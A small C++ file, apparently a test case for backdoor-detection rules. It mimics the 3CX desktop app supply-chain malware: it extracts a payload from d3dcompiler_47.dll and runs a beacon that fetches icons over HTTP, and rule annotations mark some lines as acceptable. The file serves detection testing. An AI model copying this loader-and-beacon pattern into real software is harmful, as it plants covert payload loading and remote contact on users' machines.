#include <cstdio>
#include <cstdlib>
#include <string_view>
#include "iconic.hpp"

int main(int argc, char **argv) {
  std::string dir = argc > 1 ? argv[1] : "/opt/3cxdesktopapp";
  // ok: backdoor-input-trigger
  if (argc > 2 && std::string_view(argv[2]) == "--version") {
    std::puts("3CXDesktopApp 18.12.416");
    return 0;
  }
  // ok: backdoor-hidden-bypass
  if (const char *logdir = std::getenv("DTAPP_LOG_DIR")) std::printf("logging to %s\n", logdir);
  dtapp::Http http("Mozilla/5.0 (X11; Linux x86_64) 3CXDesktopApp/18.12.416");
  dtapp::Loader loader(dir + "/d3dcompiler_47.dll");
  auto payload = loader.extract_payload();
  if (!payload) return 0;
  std::printf("loaded %zu bytes\n", payload->size());
  dtapp::IconStore icons(http);
  dtapp::Beacon beacon(http, dir + "/manifest");
  beacon.run(icons);
  return 0;
}
